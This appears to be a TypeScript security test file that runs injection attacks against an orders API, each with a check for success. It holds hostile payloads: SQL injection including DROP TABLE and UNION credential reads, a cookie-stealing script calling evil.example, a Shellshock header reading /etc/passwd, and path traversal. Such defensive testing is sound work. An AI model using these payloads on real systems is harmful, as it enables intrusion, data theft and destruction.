import { randomUUID } from 'node:crypto'
import { type Answer, send } from '../../support/clients/send.ts'
import { plainDraft } from '../../support/samples.ts'
import { type Attack, attack, type Scene } from '../attack.ts'

type Found = { items?: unknown[] }

const search = ({ baseUrl, fixture, address }: Scene, q: string) =>
  send(baseUrl, `/api/orders/search?q=${encodeURIComponent(q)}`, { token: fixture.token('owner'), from: address() })

const create = ({ baseUrl, fixture, address }: Scene, json: object, headers = {}) =>
  send(baseUrl, '/api/orders', { method: 'POST', token: fixture.token('owner'), from: address(), json, headers })

const script = '<script>fetch("https://evil.example/" + document.cookie)</script>'

const [line] = plainDraft.lines
const descriptions = [...Array.from({ length: 99 }, (_, index) => `Desk lamp, number ${index}`), script]

const runsInABrowser = ({ headers }: Answer) =>
  !/json/.test(headers['content-type'] ?? '') || headers['x-content-type-options'] !== 'nosniff'

/** Stored text that comes back as text does no harm. An injection succeeds when it runs, breaks a query or reads a file. */
export const injections: Attack[] = [
  attack(
    'SQL injection in a search',
    scene => search(scene, "lamp' UNION SELECT email, password_hash FROM users --"),
    ({ status, text }) => status === 500 || (status === 200 && (JSON.parse(text) as Found).items?.length !== 0),
  ),
  attack(
    'SQL injection in an id in the path',
    ({ baseUrl, fixture, address }) =>
      send(baseUrl, `/api/orders/${randomUUID()}'%20OR%20'1'='1`, { token: fixture.token('owner'), from: address() }),
    ({ status }) => status === 200 || status === 500,
  ),
  attack(
    'SQL injection in a body',
    scene => create(scene, { ...plainDraft, customerName: "x'); DROP TABLE order_lines; --" }),
    ({ status }) => status === 500,
  ),
  attack(
    'SQL injection in a header',
    scene => create(scene, plainDraft, { 'idempotency-key': "x' OR pg_sleep(5) IS NULL OR '1'='1" }),
    ({ status }) => status === 500,
  ),
  attack(
    'script (XSS) in the note of an order',
    scene => create(scene, { ...plainDraft, note: script }),
    runsInABrowser,
  ),
  attack(
    'script (XSS) in the last of 100 descriptions',
    scene => create(scene, { ...plainDraft, lines: descriptions.map(description => ({ ...line, description })) }),
    runsInABrowser,
  ),
  attack(
    'shell command in a header',
    ({ baseUrl, fixture, address }) =>
      send(baseUrl, '/api/orders', {
        token: fixture.token('owner'),
        from: address(),
        headers: { 'user-agent': '() { :; }; /bin/cat /etc/passwd' },
      }),
    ({ text }) => text.includes('root:'),
  ),
  attack(
    'path traversal in a search',
    scene => search(scene, '../../../../../etc/passwd'),
    ({ status, text }) => status === 500 || text.includes('root:'),
  ),
  attack('path traversal in the path', ({ baseUrl, fixture, address }) =>
    send(baseUrl, '/api/orders/..%2f..%2f..%2fetc%2fpasswd', { token: fixture.token('owner'), from: address() }),
  ),
  attack(
    'NUL character in a search',
    ({ baseUrl, fixture, address }) =>
      send(baseUrl, '/api/orders/search?q=lamp%00', { token: fixture.token('owner'), from: address() }),
    ({ status }) => status === 200 || status === 500,
  ),
]
